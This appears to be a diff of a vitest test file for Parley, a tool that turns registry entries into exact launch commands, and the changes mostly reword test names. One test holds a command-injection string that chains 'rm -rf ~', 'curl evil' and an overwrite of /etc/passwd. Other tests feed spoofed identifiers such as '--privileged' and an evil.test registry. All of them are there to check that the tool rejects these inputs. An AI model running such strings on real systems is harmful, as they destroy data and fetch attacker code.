@@ -1,4 +1,4 @@
-/** What entries of a registry become: the exact command or address, or the reason why there is none. */
+/** What Parley runs for entries of a registry: the exact command or URL, or the reason why there is none. */
 import { readFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
 import { readyMadeNames, readyMadeVersion } from '../../contract/entries/ready-made-permissions'
@@ -25,18 +25,18 @@ const problemOf = (found: object) => {
   return launch === null && problem !== null ? toEnglish(problem) : null
 }
 
-describe('what an entry of a registry runs', () => {
+describe('the command of a registry entry', () => {
   it.each([
     ['npm', { identifier: '@scope/thing' }, 'npx -y @scope/thing@1.2.3'],
     ['pypi', { identifier: 'thing-server' }, 'uvx thing-server==1.2.3'],
     ['oci', { identifier: 'ghcr.io/owner/thing' }, 'docker run -i --rm ghcr.io/owner/thing:1.2.3'],
     ['oci', { identifier: 'owner/thing:9', version: null }, 'docker run -i --rm owner/thing:9'],
     ['nuget', { identifier: 'Thing.Server' }, 'dnx Thing.Server@1.2.3 --yes']
-  ])('%s: with its version fixed', (registryType, found, line) => {
+  ])('has a fixed version for %s', (registryType, found, line) => {
     expect(lineOf({ registryType, ...found }).join(' ')).toBe(line)
   })
 
-  it('ECO-04: arguments stay one each, whatever a shell would make of them', () => {
+  it('ECO-04: keeps arguments separate, even if a shell would split them', () => {
     const hostile = '; rm -rf ~ && $(curl evil) | `id` > /etc/passwd'
     const packageArguments = [
       { type: 'positional', value: hostile },
@@ -49,7 +49,7 @@ describe('what an entry of a registry runs', () => {
     ])
   })
 
-  it('a variable goes into a container by its name, and a secret stands in no text', () => {
+  it('passes a variable to a container by its name, and has a secret in no text', () => {
     const environmentVariables = [
       { name: 'TOKEN', isSecret: true, isRequired: true, default: 'given' },
       { name: 'REGION', default: 'eu' },
@@ -68,7 +68,7 @@ describe('what an entry of a registry runs', () => {
     expect(way.asked.map(({ name }) => name)).toEqual(['TOKEN', 'REGION', 'EXTRA'])
   })
 
-  it('what only the person knows has a place that has to be replaced', () => {
+  it('has a placeholder for values that only the user knows', () => {
     const packageArguments = [{ type: 'positional', valueHint: 'folder', isRequired: true }]
     const way = wayOf({ registryType: 'npm', identifier: 'thing', packageArguments })
     expect(way.launch).toMatchObject({ args: ['-y', 'thing@1.2.3', '<folder>'] })
@@ -92,29 +92,29 @@ describe('what an entry of a registry runs', () => {
 
   it.each([
     [
-      'a flag in place of a name',
+      'an option instead of a name',
       { registryType: 'npm', identifier: '--registry=https://evil.test' },
       'valid'
     ],
-    [
-      'an address in place of a name',
-      { registryType: 'npm', identifier: 'https://evil.test/x.tgz' },
-      'valid'
-    ],
-    ['a folder in place of a name', { registryType: 'pypi', identifier: '../thing' }, 'valid'],
-    ['a flag in place of an image', { registryType: 'oci', identifier: '--privileged' }, 'valid'],
+    ['a URL instead of a name', { registryType: 'npm', identifier: 'https://evil.test/x.tgz' }, 'valid'],
+    ['a folder instead of a name', { registryType: 'pypi', identifier: '../thing' }, 'valid'],
+    ['an option instead of an image', { registryType: 'oci', identifier: '--privileged' }, 'valid'],
     ['no fixed version', { registryType: 'npm', identifier: 'thing', version: 'latest' }, 'valid'],
     ['a range of versions', { registryType: 'npm', identifier: 'thing', version: '^1.0.0' }, 'valid'],
     ['no version', { registryType: 'oci', identifier: 'owner/thing', version: null }, 'valid'],
     [
-      'another place',
+      'another registry',
       { registryType: 'npm', identifier: 'thing', registryBaseUrl: 'https://evil.test' },
       'evil.test'
     ],
     ['an unknown kind', { registryType: 'cargo', identifier: 'thing' }, 'cargo'],
-    ['HTTP once it runs', { registryType: 'npm', identifier: 'thing', transport: { type: 'sse' } }, 'HTTP'],
     [
-      'a secret of the person in an argument',
+      'an HTTP server in a package',
+      { registryType: 'npm', identifier: 'thing', transport: { type: 'sse' } },
+      'HTTP'
+    ],
+    [
+      'a secret of the user in an argument',
       {
         registryType: 'npm',
         identifier: 'thing',
@@ -123,7 +123,7 @@ describe('what an entry of a registry runs', () => {
       'secrets of yours'
     ],
     [
-      'a variable of the person in a variable',
+      'a variable of the user in a variable',
       {
         registryType: 'npm',
         identifier: 'thing',
@@ -150,15 +150,15 @@ describe('what an entry of a registry runs', () => {
       'invisible characters'
     ],
     [
-      'a variable that is no name',
+      'a variable with an invalid name',
       { registryType: 'npm', identifier: 'thing', environmentVariables: [{ name: 'A=B', value: 'x' }] },
       'name'
     ]
-  ])('is nothing that Parley sets up: %s', (_what, found, reason) => {
+  ])('is refused for %s', (_what, found, reason) => {
     expect(problemOf(found)).toMatch(new RegExp(reason))
   })
 
-  it('a bundle is told with its address and its sum, and not fetched', () => {
+  it('is none for a bundle, which has its URL and hash and is not fetched', () => {
     const identifier = 'https://github.com/o/r/releases/download/v1/thing.mcpb'
     const fileSha256 = 'a'.repeat(64)
     expect(wayOf({ registryType: 'mcpb', identifier, fileSha256 })).toMatchObject({
@@ -169,7 +169,7 @@ describe('what an entry of a registry runs', () => {
   })
 })
 
-it('ready-made servers are of the version that the shipped list names', () => {
+it('has the version of the included list for ready-made servers', () => {
   const list = readFileSync(new URL('../../../resources/servers.json', import.meta.url), 'utf8')
   for (const name of readyMadeNames) {
     const [, version] =
